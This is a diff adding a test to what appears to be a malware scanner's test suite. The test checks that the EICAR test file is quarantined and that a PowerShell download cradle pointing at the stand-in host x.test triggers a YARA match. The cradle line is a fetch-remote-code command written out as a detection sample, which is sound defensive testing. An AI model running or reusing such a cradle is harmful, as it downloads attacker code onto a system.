@@ -456,3 +456,14 @@ def test_structured_suffix_types_are_their_base_format():
 
     assert type_family("application/tlsrpt+gzip") == type_family("application/gzip") == "gzip"
     assert type_family("application/epub+zip") == "zip"
+
+
+async def test_eicar_as_a_text_file_is_quarantined_whatever_the_score():
+    """A YARA rule that gives a verdict (the built-in EICAR rule: `verdict = "malware"`) holds
+    the message even when everything else says ham; heuristic rules only add score."""
+    out = await scan_files(("eicar.txt", "text/plain", fx.EICAR))
+    assert out.verdict.action.value == "quarantine" and out.verdict.category.value == "malware"
+    assert "is malware (YARA rule EICAR_Test_File)" in out.verdict.reason
+    cradle = b"powershell -c (New-Object Net.WebClient).DownloadString('http://x.test/a')"
+    out = await scan_files(("setup.txt", "text/plain", cradle))
+    assert out.result.has("YARA_MATCH") and out.result.forced is None
